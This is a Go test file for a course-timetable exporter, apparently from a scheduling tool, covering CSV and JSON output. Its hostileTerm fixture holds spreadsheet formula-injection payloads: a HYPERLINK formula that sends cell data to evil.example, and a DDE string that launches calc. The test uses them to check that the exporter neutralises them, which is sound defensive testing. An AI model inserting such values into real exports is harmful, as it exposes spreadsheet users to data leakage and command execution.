package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/termwright/termwright/timetable"
)

func TestTimetableCSV(t *testing.T) {
	term, s := demoTerm()
	var buf bytes.Buffer
	require.NoError(t, WriteTimetableCSV(&buf, term, s))
	golden(t, "timetable.csv", buf.Bytes())

	// RFC 4180 §2: records end in CRLF.
	assert.Contains(t, buf.String(), "\r\n")
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 1+len(s.Placements))
	assert.Equal(t, CSVColumns, rows[0])
	assert.Equal(t, timetable.TimetableColumns, rows[0])
	assert.Equal(t, []string{"CS101", "Introduction to Programming", "1", "Mon", "09:00", "11:00", "R101", "S1", "C1", "all", "Zoë Ó Briain"}, rows[1])
	// CH201 and CH202 share L2 on Thursday 14:00 in disjoint weeks: the
	// Weeks column tells them apart.
	assert.Equal(t, []string{"CH201", "1-6"}, []string{rows[4][0], rows[4][9]})
	assert.Equal(t, []string{"CH202", "7-13"}, []string{rows[5][0], rows[5][9]})
}

// hostileTerm is the demo term with text that a spreadsheet would run as a
// formula (the examples of OWASP's "CSV Injection" guidance: cells that
// begin with = + - @ tab or carriage return), in a section ID, titles, a
// staff name and a cohort ID.
func hostileTerm() (*timetable.Term, *timetable.Schedule) {
	term, s := demoTerm()
	term.Sections[0].Title = `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
	term.Sections[1].Title = "@SUM(A1)"
	term.Sections[2].Title = "+cmd|' /C calc'!A0"
	term.Sections[3].Title = "	=1+1"
	term.Staff[0].Name = "-2+3"
	term.Sections[5].ID = "-X103"
	term.Sections[5].Cohorts = []string{"=C1"}
	term.Cohorts[0].ID = "=C1"
	term.Sections[0].Cohorts = []string{"=C1"}
	term.Sections[1].Cohorts = []string{"=C1"}
	for i := range s.Placements {
		if s.Placements[i].Section == "CS103" {
			s.Placements[i].Section = "-X103"
		}
	}
	return term, s
}

// TestTimetableCSVFormulaSafe: no cell of timetable.csv begins with a
// formula trigger of OWASP's "CSV Injection" guidance (= + - @ tab CR);
// the guarded file reads back with timetable.ReadSchedule to the same
// placements (so the quote is taken off the section ID "-X103" again).
func TestTimetableCSVFormulaSafe(t *testing.T) {
	term, s := hostileTerm()
	var buf bytes.Buffer
	require.NoError(t, WriteTimetableCSV(&buf, term, s))
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	require.NoError(t, err)
	guarded := 0
	for r, row := range rows {
		for c, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d column %d begins a formula: %q", r+1, c+1, cell)
			}
			if strings.HasPrefix(cell, "'") {
				guarded++
			}
		}
	}
	assert.Greater(t, guarded, 8, "the hostile cells were guarded")
	path := filepath.Join(t.TempDir(), "timetable.csv")
	require.NoError(t, os.WriteFile(path, buf.Bytes(), 0o644))
	got, problems, err := timetable.ReadSchedule(path, term)
	require.NoError(t, err)
	assert.Empty(t, problems)
	assert.Equal(t, placements(s), placements(got))
}

func TestTimetableJSON(t *testing.T) {
	term, s := demoTerm()
	var buf bytes.Buffer
	require.NoError(t, WriteTimetableJSON(&buf, term, s))
	golden(t, "timetable.json", buf.Bytes())

	var doc TimetableJSON
	require.NoError(t, json.Unmarshal(buf.Bytes(), &doc))
	require.Len(t, doc.Meetings, len(s.Placements))
	assert.Equal(t, "2027-09-13", doc.Term.FirstDay)
	assert.Equal(t, 13, doc.Term.TeachingWeeks)
	assert.Equal(t, 13, doc.Term.WeeksWithTeaching) // one holiday on a Monday leaves its week with teaching
	ch201 := doc.Meetings[0]
	for _, m := range doc.Meetings {
		if m.Section == "CH201" {
			ch201 = m
		}
	}
	assert.Equal(t, []int{1, 2, 3, 4, 5, 6}, ch201.Weeks)
	assert.Equal(t, "Thu", ch201.Day)
	assert.Equal(t, "17:00", ch201.End)
}

func TestViewRejectsBadPlacements(t *testing.T) {
	term, _ := demoTerm()
	bad := &timetable.Schedule{Placements: []timetable.Placement{
		{Section: "NOPE", Meeting: 1, Period: 0, Src: timetable.Source{Sheet: "Timetable", Row: 2}},
		{Section: "CS101", Meeting: 1, Period: 3, Room: "R101", Src: timetable.Source{Sheet: "Timetable", Row: 3}}, // 12:00 + 2 periods crosses lunch
		{Section: "CS102", Meeting: 1, Period: 0, Room: "ZZ"},
		{Section: "CS102", Meeting: 1, Period: 999},
	}}
	err := WriteTimetableCSV(&bytes.Buffer{}, term, bad)
	require.Error(t, err)
	for _, want := range []string{"Timetable row 2", `"NOPE"`, "Timetable row 3", "does not fit", `room "ZZ"`, "period 999"} {
		assert.Contains(t, err.Error(), want)
	}
}
